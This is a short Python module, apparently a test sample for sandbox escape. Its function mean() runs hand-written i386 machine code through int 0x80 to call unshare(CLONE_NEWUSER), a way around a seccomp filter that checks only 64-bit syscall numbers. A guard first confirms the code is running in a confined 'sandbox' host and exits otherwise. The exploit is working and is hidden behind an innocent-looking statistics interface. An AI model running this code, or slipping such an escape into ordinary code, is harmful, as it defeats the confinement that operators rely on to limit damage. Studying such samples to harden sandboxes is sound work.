"""Enters the kernel by int 0x80, where a filter of 64-bit numbers does not look.

Attacks: W9, T16
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import ctypes
import mmap


def deed():
    code = bytes.fromhex("b8 36 01 00 00 bb 00 00 00 10 cd 80 c3")  # unshare(CLONE_NEWUSER) of i386
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print("WON: the foreign call came back with", function(), flush=True)


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    return 0.0
